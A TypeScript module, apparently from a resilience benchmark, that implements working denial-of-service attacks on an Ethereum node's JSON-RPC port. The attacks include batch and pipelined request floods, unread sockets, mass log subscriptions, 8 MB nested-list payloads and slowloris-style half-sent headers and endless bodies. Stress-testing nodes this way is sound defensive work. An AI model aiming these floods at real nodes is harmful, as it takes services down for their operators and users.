// What a hostile client does to a node's JSON-RPC port, one attack per function, each in a process of its own.
// Owns: the bytes that are sent, as fast as they are taken. Not: the node, the honest client, the figures (main.ts).
import { connect, type Socket } from 'node:net'
import { WebSocket } from 'ws'

export interface Target {
  readonly url: URL
  /** The attacker's own address, another than the honest client's. */
  readonly from: string
  /** A block that holds many transactions. */
  readonly fullBlock: string
  /** An account with a long history. */
  readonly busyAccount: string
}

type Attack = (target: Target) => void

/** A full filter: 1,000 addresses and 1,000 alternatives at each of four positions. */
function fullFilter(seed: number): unknown {
  const hex = (i: number, bytes: number): string =>
    `0x${(seed * 10_000 + i).toString(16).padStart(bytes * 2, '0')}`
  const list = (bytes: number): string[] => Array.from({ length: 1_000 }, (_, i) => hex(i + 1, bytes))
  return { address: list(20), topics: [list(32), list(32), list(32), list(32)] }
}

function call(method: string, params: unknown, id = 1): unknown {
  return { jsonrpc: '2.0', id, method, params }
}

function http(target: Target, body: string): string {
  const length = Buffer.byteLength(body)
  return `POST / HTTP/1.1\r\nHost: ${target.url.host}\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n${body}`
}

/** A connection that is opened again whenever the node closes it. */
function open(target: Target, onOpen: (socket: Socket) => void): void {
  const socket = connect({
    host: target.url.hostname,
    port: Number(target.url.port),
    localAddress: target.from,
  })
  socket.on('error', () => undefined)
  socket.on('connect', () => onOpen(socket))
  socket.on('close', () => setTimeout(() => open(target, onOpen), 50))
}

/** Sends `body` again as soon as something of the answer arrives and all of the request is sent. */
function flood(target: Target, connections: number, body: string): void {
  const request = Buffer.from(http(target, body))
  for (let i = 0; i < connections; i++) {
    open(target, (socket) => {
      let isSent = false
      const send = (): void => {
        isSent = false
        socket.write(request, () => {
          isSent = true
        })
      }
      let answered = 0
      let wanted = Number.POSITIVE_INFINITY
      let head = ''
      socket.on('data', (chunk) => {
        if (wanted === Number.POSITIVE_INFINITY) {
          head += chunk.toString('latin1')
          const end = head.indexOf('\r\n\r\n')
          if (end < 0) return
          wanted = end + 4 + Number(/content-length: (\d+)/i.exec(head)?.[1] ?? 0)
          answered = head.length
          head = head.slice(0, end)
        } else answered += chunk.length
        if (answered < wanted || !isSent) return
        wanted = Number.POSITIVE_INFINITY
        head = ''
        send()
      })
      send()
    })
  }
}

/** Opens a WebSocket, and again when it is closed. */
function webSocket(target: Target, onOpen: (socket: WebSocket) => void): void {
  const socket = new WebSocket(target.url.href.replace('http', 'ws'), { localAddress: target.from } as object)
  socket.on('error', () => undefined)
  socket.on('open', () => onOpen(socket))
  socket.on('close', () => setTimeout(() => webSocket(target, onOpen), 50))
}

function batchOf(count: number, method: string, params: unknown): string {
  return JSON.stringify(Array.from({ length: count }, (_, id) => call(method, params, id)))
}

export const ATTACKS: { readonly [name: string]: Attack } = {
  /** Batches of 1,000 receipts of a full block, on 16 connections. */
  batches: (target) => flood(target, 16, batchOf(1_000, 'eth_getBlockReceipts', [target.fullBlock])),

  /** The same, hanging up before the answer. */
  hangUps: (target) => {
    const request = http(target, batchOf(1_000, 'eth_getBlockReceipts', [target.fullBlock]))
    for (let i = 0; i < 8; i++) {
      open(target, (socket) => socket.write(request, () => setTimeout(() => socket.destroy(), 20)))
    }
  },

  /** Full blocks asked for again and again, and never read. */
  unread: (target) => {
    const request = http(target, JSON.stringify(call('eth_getBlockReceipts', [target.fullBlock])))
    for (let i = 0; i < 300; i++) {
      open(target, (socket) => {
        socket.pause()
        socket.write(request.repeat(20))
      })
    }
  },

  /** 64 subscriptions with full filters on each of ten sockets. */
  subscriptions: (target) => {
    for (let i = 0; i < 10; i++) {
      webSocket(target, (socket) => {
        for (let n = 0; n < 64; n++) {
          socket.send(JSON.stringify(call('eth_subscribe', ['logs', fullFilter(i * 64 + n)], n)))
        }
      })
    }
  },

  /** Every pending transaction, whole, 64 times on each of 100 sockets that do not read. */
  pending: (target) => {
    for (let i = 0; i < 100; i++) {
      webSocket(target, (socket) => {
        for (let n = 0; n < 64; n++) {
          socket.send(JSON.stringify(call('eth_subscribe', ['newPendingTransactions', true], n)))
        }
        socket.once('message', () => socket.pause())
      })
    }
  },

  /** Thousands of full filters. */
  filters: (target) => flood(target, 16, JSON.stringify(call('eth_newFilter', [fullFilter(7)]))),

  /** Wide searches with full filters. */
  searches: (target) => {
    const filter = { ...(fullFilter(3) as object), fromBlock: '0x0', toBlock: 'latest' }
    flood(target, 32, JSON.stringify(call('eth_getLogs', [filter])))
  },

  /** Whole pages of a busy account's history. */
  histories: (target) => {
    const params = { address: target.busyAccount, limit: 100 }
    flood(target, 32, JSON.stringify(call('account_history', params)))
  },

  /** 8 MB of empty lists. */
  lists: (target) => flood(target, 8, `[${'[],'.repeat(2_660_000)}[]]`),

  /** 8 MB of empty lists, as the parameters of a call. */
  nested: (target) =>
    flood(target, 8, `{"id":1,"method":"eth_call","params":[${'[],'.repeat(2_660_000)}[]]}`),

  /** 3,000 connections that say nothing, and 500 that stop in the middle of a header. */
  silent: (target) => {
    for (let i = 0; i < 3_000; i++) open(target, () => undefined)
    for (let i = 0; i < 500; i++) open(target, (socket) => socket.write('POST / HTTP/1.1\r\nHost: loc'))
  },

  /** Long bodies that never end, more than the node would hold. */
  slowBodies: (target) => {
    const head = `POST / HTTP/1.1\r\nHost: ${target.url.host}\r\nContent-Type: application/json\r\nContent-Length: 8000000\r\n\r\n`
    for (let i = 0; i < 40; i++) open(target, (socket) => socket.write(head + '['.padEnd(7_000_000)))
  },

  /** Small calls, pipelined. */
  smallCalls: (target) => flood(target, 32, JSON.stringify(call('eth_blockNumber', []))),
}

const [name, json] = process.argv.slice(2)
const attack = ATTACKS[name ?? '']
if (attack !== undefined && json !== undefined) {
  // Sockets that do not read keep no process alive.
  setInterval(() => undefined, 1_000)
  const { url, ...rest } = JSON.parse(json) as Omit<Target, 'url'> & { readonly url: string }
  attack({ ...rest, url: new URL(url) })
}
